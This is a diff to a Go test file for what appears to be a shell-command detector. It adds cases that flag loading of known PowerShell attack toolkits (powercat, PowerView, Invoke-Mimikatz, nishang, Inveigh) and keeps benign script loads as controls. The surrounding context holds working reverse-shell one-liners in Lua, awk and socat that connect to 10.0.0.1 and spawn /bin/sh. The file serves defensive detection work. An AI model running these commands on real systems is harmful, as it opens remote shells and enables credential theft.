@@ -969,7 +969,20 @@ func TestProgram(t *testing.T) {
 		{`exec 3<file`, "", false},
 		{`nc -z host 443`, "", false},
 		{`openssl s_client -connect example.com:443 </dev/null`, "", false},
-		{`powershell -nop -c ". .\powercat.ps1"`, "", false}, // loading a script: what it then runs is judged
+		// loading a script named for a known attack toolkit is asked (issue 26, det63); loading
+		// a project's own script or a gallery module, or reading the toolkit's file, is not
+		{`powershell -nop -c ". .\powercat.ps1"`, "exec/attack_toolkit", true},
+		{`pwsh -c "Import-Module ./PowerSploit/Recon/PowerView.ps1; Get-Domain"`, "exec/attack_toolkit", true},
+		{`powershell -ep bypass -c "ipmo .\Invoke-Mimikatz.ps1"`, "exec/attack_toolkit", true},
+		{`powershell -c ". C:\Tools\nishang\Shells\Invoke-PowerShellTcp.ps1"`, "exec/attack_toolkit", true},
+		{`powershell -c "Import-Module .\Inveigh.psd1"`, "exec/attack_toolkit", true},
+		{`powershell -nop -c ". .\build.ps1"`, "", false},
+		{`pwsh -c "Import-Module ./tools/Deploy.psm1; Publish-Site"`, "", false},
+		{`pwsh -c "Import-Module Pester; Invoke-Pester"`, "", false},
+		{`powershell -c "Import-Module PowerShellGet"`, "", false},
+		{`powershell -c "Import-Module .\PowerUpdate.psm1"`, "", false},
+		{`powershell -c "Get-Content .\powercat.ps1 | Select-Object -First 20"`, "", false},
+		{`grep -n Import-Module powercat.ps1`, "", false},
 		{`lua -e "require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');"`, "exec/reverse_shell", false},
 		{`awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`, "exec/reverse_shell", false},
 		{`socat tcp-connect:10.0.0.1:4242 exec:/bin/sh,pty,stderr,setsid,sigint,sane`, "exfil/reverse_shell", false},
